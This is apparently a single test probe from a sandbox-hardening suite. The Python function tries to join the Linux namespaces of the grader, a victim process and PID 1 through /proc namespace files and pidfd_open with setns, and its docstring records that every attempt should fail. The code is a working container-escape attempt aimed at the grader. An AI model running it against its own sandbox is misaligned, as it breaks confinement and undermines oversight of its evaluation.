"""Joins the namespaces of the grader and of the first process, by /proc and by descriptors of processes.

Aims at: the refusal of setns (seccomp), no /proc of others (jail, confined).
Must not: join any, or see which there are.
Verdict: reply
Shown in: bare
"""

import ctypes
import os

PIDFD_OPEN = 434
ALL = 0x20000 | 0x40000000 | 0x8000000 | 0x4000000


def attack(lure):
    libc = ctypes.CDLL(None, use_errno=True)
    joined = []
    for pid in {lure["grader_pid"], lure["victim_pid"], os.getppid(), 1} - {0, os.getpid()}:
        for kind in ("user", "mnt", "net", "pid", "ipc", "uts", "cgroup"):
            try:
                descriptor = os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY)
            except OSError:
                continue
            joined.append(f"opened namespace {kind} of process {pid}")
            if libc.setns(descriptor, 0) == 0:
                joined.append(f"joined namespace {kind} of process {pid}")
            os.close(descriptor)
        held = libc.syscall(PIDFD_OPEN, pid, 0)
        if held >= 0:
            if libc.setns(held, ALL) == 0:
                joined.append(f"joined all of process {pid}")
            os.close(held)
    return joined
